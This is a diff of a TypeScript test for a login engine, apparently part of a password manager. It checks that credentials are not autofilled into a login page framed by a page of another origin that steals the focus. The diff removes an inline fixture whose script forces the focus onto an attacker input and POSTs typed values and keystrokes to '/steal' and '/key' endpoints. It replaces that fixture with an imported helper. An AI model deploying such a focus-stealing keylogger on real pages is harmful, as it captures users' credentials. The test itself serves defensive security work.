@@ -14,7 +14,7 @@ import {
 } from '../../../../src/main/core/login/login-engine.js';
 import { startSite, type FixtureSite } from '../../../fixtures/sites/index.js';
 import { startPasskeySite, type PasskeySite } from '../../../fixtures/sites/passkey.site.js';
-import { startRecordingSite } from '../../../helpers/recording-site.js';
+import { focusStealingPage, startRecordingSite } from '../../../helpers/recording-site.js';
 import { distinctSecret, findSecrets } from '../../../helpers/vault-logins.js';
 import { makePasskey } from '../passkeys/passkey-kit.js';
 
@@ -42,17 +42,6 @@ describe('a login page framed by a page of another origin that steals the focus'
     await legit?.close();
   });
 
-  /** The real login page in an iframe, and an input of the framing page that keeps taking the focus and reports. */
-  const framingPage = (loginUrl: string) => `<!doctype html><title>Sign in</title>
-    <iframe src="${loginUrl}" style="width:640px;height:640px" title="Sign in"></iframe>
-    <input id="steal" aria-label="steal">
-    <script>
-      const s = document.getElementById('steal');
-      setInterval(() => { if (document.activeElement !== s) s.focus(); }, 1);
-      s.addEventListener('input', () => fetch('/steal', { method: 'POST', body: s.value }));
-      document.addEventListener('keydown', (e) => fetch('/key', { method: 'POST', body: e.key }));
-    </script>`;
-
   it.each([
     ['another site (localhost)', 'localhost'],
     ['the same site (another port)', '127.0.0.1'],
@@ -60,7 +49,7 @@ describe('a login page framed by a page of another origin that steals the focus'
   ] as const)('on %s: nothing is typed, credential_origin_mismatch', async (_name, host) => {
     const attacker = await startRecordingSite(host);
     try {
-      attacker.route('/', framingPage(legit.loginUrl));
+      attacker.route('/', focusStealingPage(legit.loginUrl));
       const result = await login({
         url: attacker.url('/'),
         username: legit.credentials.username,
